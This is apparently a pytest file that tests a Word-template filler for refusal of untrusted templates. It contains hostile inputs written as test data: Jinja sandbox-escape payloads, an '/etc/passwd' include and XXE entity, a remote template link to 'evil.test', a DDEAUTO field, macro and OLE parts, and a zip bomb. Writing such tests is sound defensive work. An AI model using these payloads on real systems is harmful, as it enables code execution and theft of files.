"""Templates of papers: what the shipped ones fill, and what an untrusted one cannot do."""

import io
import time
import zipfile
from datetime import date

import pytest
from docx import Document
from docx.enum.text import WD_LINE_SPACING
from docx.oxml.ns import qn
from docx.shared import Mm

from enforcement import paper_rendering, paper_values
from enforcement.paper_kinds import PaperKind
from enforcement.paper_rendering import LARGEST_TEMPLATE, TemplateRefused, Values
from tests.factories.papers import template, text_of
from tools import paper_templates

DAY = date(2026, 11, 23)
ADDRESS = "https://example.test/v/abcdefghjkmnpq/"


def example(kind: PaperKind = PaperKind.ORDER) -> Values:
    return paper_values.example(kind, "示例市城市管理局", "示城管", DAY)


def filled(body: bytes, values: Values | None = None) -> str:
    return text_of(paper_rendering.fill(body, values or example(), ADDRESS).body)


def refused(body: bytes) -> TemplateRefused:
    with pytest.raises(TemplateRefused) as caught:
        paper_rendering.fill(body, example(), ADDRESS)
    return caught.value


def changed(name: str, text: str, *, body: bytes | None = None) -> bytes:
    """A document in which one part is another."""
    kept = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body or template("{{ number }}"))) as before, zipfile.ZipFile(kept, "w") as after:
        for entry in before.infolist():
            if entry.filename != name:
                after.writestr(entry, before.read(entry))
        after.writestr(name, text)
    return kept.getvalue()


def part(name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(template("{{ number }}"))) as document:
        return document.read(name).decode()


@pytest.mark.parametrize("kind", list(PaperKind))
def test_a_shipped_template_uses_known_names_only_and_bears_the_code(kind: PaperKind) -> None:
    done = paper_rendering.fill(paper_rendering.shipped(kind), example(kind), ADDRESS)
    text = text_of(done.body)
    assert "{" not in text
    assert "示例数据" in text
    word = Document(io.BytesIO(done.body))
    assert [round(shape.width / Mm(1)) for shape in word.inline_shapes] == [22]
    (holder,) = [each for each in word.element.body.iter(qn("w:p")) if each.findall(f".//{qn('w:drawing')}")]
    assert holder.pPr.spacing_lineRule != WD_LINE_SPACING.EXACTLY  # it would cut the picture to the height of a line
    section = word.sections[0]
    assert [round(side / Mm(1)) for side in (section.page_width or 0, section.page_height or 0)] == [210, 297]


def test_the_shipped_templates_are_what_the_tool_makes(tmp_path: object, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(paper_templates, "OUT", tmp_path)
    paper_templates.main()
    for kind in PaperKind:
        assert (tmp_path / f"{kind.value}.docx").read_bytes() == paper_rendering.shipped(kind)  # type: ignore[operator]


def test_values_stand_as_they_are_written() -> None:
    values = {**example(), "number": "<w:p/> & {{ day }} {% if %} 第一行\n第二行"}
    assert filled(template("{{ number }}"), values).strip() == "<w:p/> & {{ day }} {% if %} 第一行\n第二行"


def test_rows_conditions_and_loops_are_filled() -> None:
    body = template("{% for each in findings %}{{ loop.index }}{{ each.n }}、{% endfor %}{% if sample %}例{% endif %}")
    assert filled(body).startswith("11、22、例")


@pytest.mark.parametrize(
    ("text", "code", "said"),
    [
        ("{{ ''.__class__ }}", "unsafe", "__class__"),
        ("{{ number.__class__.__mro__[1].__subclasses__() }}", "unsafe", "__class__"),
        ("{{ findings.append }}", "unsafe", "append"),
        ("{{ number.upper() }}", "unsafe", ""),
        ("{{ '{0.__class__}'.format(number) }}", "unsafe", ""),
        ("{% for a in findings %}{{ loop.__init__.__globals__ }}{% endfor %}", "unsafe", "__init__"),
        ("{{ self.__init__.__globals__ }}", "unsafe", "__init__"),
        ("{{ cycler.__init__.__globals__.os }}", "unknown", "cycler"),
        ("{{ number|attr('__class__') }}", "syntax", "attr"),
        ("{{ number|safe }}", "syntax", "safe"),
        ("{% for a in range(9) %}{% endfor %}", "unknown", "range"),
        ("{{ nunber }}", "unknown", "nunber"),
        ("{% if day == '' %}{{ hidden }}{% endif %}", "unknown", "hidden"),
        ("{{ findings[0].nix }}", "unknown", "nix"),
        ("{{ number ", "syntax", ""),
        ("{% include '/etc/passwd' %}", "syntax", "passwd"),
        ("{{ number * 999999999 }}", "too_slow", ""),
    ],
)
def test_a_template_reaches_nothing_but_the_documented_names(text: str, code: str, said: str) -> None:
    refusal = refused(template(text))
    assert (refusal.code, refusal.field, said in str(refusal.message)) == (code, "template", True)


def test_loops_inside_one_another_come_to_an_end() -> None:
    values = {**example(), "findings": [{"n": "1"}] * 60}
    loops = "".join(f"{{% for a{n} in findings %}}" for n in range(9))
    began = time.monotonic()
    with pytest.raises(TemplateRefused) as caught:
        paper_rendering.fill(template(f"{loops}x{'{% endfor %}' * 9}"), values, ADDRESS)
    assert caught.value.code == "too_slow"
    assert time.monotonic() - began < paper_rendering.WALL_SECONDS + 5


def test_what_reaches_outside_is_refused() -> None:
    name = "word/_rels/document.xml.rels"
    link = '<Relationship Id="x9" Type="http://x/attachedTemplate" Target="https://evil.test/t" TargetMode="{}"/></Relationships>'
    for mode in ("External", "external", " External "):
        body = changed(name, part(name).replace("</Relationships>", link.format(mode)))
        assert refused(body).code == "external"
    inside = changed(name, part(name).replace("</Relationships>", link.format("Internal")))
    assert refused(inside).code == "active"
    encoded = changed(name, "")
    with zipfile.ZipFile(io.BytesIO(encoded)) as before:
        kept = io.BytesIO()
        with zipfile.ZipFile(kept, "w") as after:
            for entry in before.infolist():
                told = part(name).replace("</Relationships>", link.format("External")).replace("UTF-8", "UTF-16")
                after.writestr(entry, told.encode("utf-16") if entry.filename == name else before.read(entry))
    assert refused(kept.getvalue()).code == "external"


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/../../x.xml", "word/a.html"])
def test_what_could_run_is_refused(name: str) -> None:
    assert refused(changed(name, "x")).code == "active"


@pytest.mark.parametrize(
    ("inner", "code"),
    [
        ("<w:r><w:object/></w:r>", "active"),
        ('<w:altChunk r:id="rId1"/>', "active"),
        ('<w:fldSimple w:instr=" DDEAUTO c:\\\\x "/>', "field"),
        ("<w:r><w:instrText> INCLUDETEXT x </w:instrText></w:r>", "field"),
        ("<w:r><w:instrText>{{ number }}</w:instrText></w:r>", "field"),
        ("<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>", ""),
    ],
)
def test_fields_and_objects(inner: str, code: str) -> None:
    body = changed("word/document.xml", part("word/document.xml").replace("<w:r>", f"{inner}<w:r>", 1))
    if code:
        assert refused(body).code == code
    else:
        assert "示城管" in filled(body)


def test_what_is_put_together_by_filling_is_refused_too() -> None:
    text = "{% autoescape false %}{{ '</w:t></w:r><w:r><w:object/></w:r><w:r><w:t>' }}{% endautoescape %}"
    assert refused(template(text)).code == "active"


def test_entities_are_refused() -> None:
    told = part("word/document.xml")
    head, rest = told.split("?>", 1)
    bomb = f'{head}?><!DOCTYPE x [<!ENTITY a "b"><!ENTITY c SYSTEM "file:///etc/passwd">]>{rest}'
    assert refused(changed("word/document.xml", bomb)).code == "active"


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    kept = io.BytesIO(template("{{ number }}"))
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED) as document:
        document.writestr("word/media/image9.png", b"\0" * (paper_press_limit() + 1))
    assert len(kept.getvalue()) < LARGEST_TEMPLATE
    assert refused(kept.getvalue()).code == "too_big"
    assert refused(b"x" * (LARGEST_TEMPLATE + 1)).code == "too_big"


def paper_press_limit() -> int:
    return 20 * 1024 * 1024


@pytest.mark.parametrize(("body", "code"), [(b"", "empty"), (b"x", "not_word"), (b"PK\x03\x04 broken", "not_word")])
def test_what_is_no_word_document_is_refused(body: bytes, code: str) -> None:
    assert refused(body).code == code


def test_a_document_with_macros_is_refused() -> None:
    told = part("[Content_Types].xml").replace("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
    assert refused(changed("[Content_Types].xml", told)).code == "not_word"


def test_the_code_belongs_to_the_text() -> None:
    assert refused(template("{{ number }}", header="{{ qr }}")).code == "qr_place"
    assert "示城管责改" in text_of(paper_rendering.fill(template("{{ number }}", header="{{ day }}"), example(), ADDRESS).body)
